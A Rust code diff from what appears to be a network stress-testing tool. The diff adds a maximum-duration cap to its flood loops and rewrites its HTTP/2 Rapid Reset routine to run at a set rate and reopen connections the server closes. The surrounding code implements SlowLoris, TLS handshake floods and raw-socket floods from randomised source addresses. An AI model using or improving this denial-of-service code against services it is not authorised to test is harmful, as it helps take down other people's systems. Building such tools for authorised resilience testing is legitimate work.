@@ -3,6 +3,7 @@
 use crate::client::endpoint::Endpoint;
 use crate::client::h2;
 use crate::engine::Engine;
+use crate::flood::LASTS_MAX;
 use crate::load::random::Random;
 use crate::packet::{Kind as Shape, build};
 use crate::scenario::{Attack, Kind, per_second};
@@ -45,7 +46,10 @@ pub(crate) fn begin(
         Kind::SlowLoris | Kind::RapidReset | Kind::Handshake => {
             let kind = attack.kind.value;
             let endpoint = if kind == Kind::Handshake { tls } else { Endpoint::new(target, None, 0) };
-            engine.spawn(move || misbehave(kind, endpoint, rate, (stop, sent)));
+            match kind {
+                Kind::RapidReset => engine.spawn(move || rapid_reset(endpoint, rate, (stop, sent))),
+                _ => engine.spawn(move || misbehave(kind, endpoint, rate, (stop, sent))),
+            }
             return Ok(None);
         }
     };
@@ -63,7 +67,7 @@ fn flood(shape: Shape, to: SocketAddrV4, (rate, sources): (f64, u32), (stop, sen
         .context("a raw socket needs root or CAP_NET_RAW")?;
     let target = SockAddr::from(SocketAddrV4::new(*to.ip(), 0));
     let (begin, mut random, mut count) = (Instant::now(), Random::new(3), 0.0);
-    while !stop.load(Relaxed) {
+    while !stop.load(Relaxed) && begin.elapsed() < LASTS_MAX {
         for _ in 0..BURST {
             let drawn = random.next();
             let number = drawn % u64::from(sources);
@@ -110,7 +114,7 @@ async fn misbehave(
     let endpoint = Rc::new(endpoint);
     let open = Rc::new(Cell::new(0_usize));
     let (begin, mut count) = (tokio::time::Instant::now(), 0.0);
-    while !stop.load(Relaxed) {
+    while !stop.load(Relaxed) && begin.elapsed() < LASTS_MAX {
         count += 1.0;
         tokio::time::sleep_until(begin + Duration::from_secs_f64(count / rate)).await;
         if open.get() >= OPEN_MAX {
@@ -123,7 +127,6 @@ async fn misbehave(
             // An attacker does not care how its connections end.
             match kind {
                 Kind::SlowLoris => slow_loris(&endpoint, &stop, &sent).await,
-                Kind::RapidReset => rapid_reset(&endpoint, &stop, &sent).await,
                 _ => handshake(&endpoint, &sent).await,
             }
             open.set(open.get() - 1);
@@ -145,10 +148,23 @@ async fn slow_loris(endpoint: &Endpoint, stop: &AtomicBool, sent: &AtomicU64) {
     }
 }
 
-async fn rapid_reset(endpoint: &Endpoint, stop: &AtomicBool, sent: &AtomicU64) {
-    let Ok(mut client) = h2::Client::open(endpoint).await else { return };
-    while !stop.load(Relaxed) && client.open_and_reset().await.is_ok() {
-        sent.fetch_add(1, Relaxed);
+/// Streams at the rate, each reset at once, on a connection that is opened anew when the server has had enough of it.
+async fn rapid_reset(endpoint: Endpoint, rate: f64, (stop, sent): (Arc<AtomicBool>, Arc<AtomicU64>)) {
+    let mut open = None;
+    let (begin, mut count) = (tokio::time::Instant::now(), 0.0);
+    while !stop.load(Relaxed) && begin.elapsed() < LASTS_MAX {
+        count += 1.0;
+        tokio::time::sleep_until(begin + Duration::from_secs_f64(count / rate)).await;
+        let client = match open.take() {
+            Some(client) => Ok(client),
+            None => h2::Client::open(&endpoint).await,
+        };
+        let Ok(mut client) = client else { continue };
+        if client.open_and_reset().await.is_ok() {
+            sent.fetch_add(1, Relaxed);
+            open = Some(client);
+        }
+        // What was written leaves when the connection's own task has its turn.
         tokio::task::yield_now().await;
     }
 }
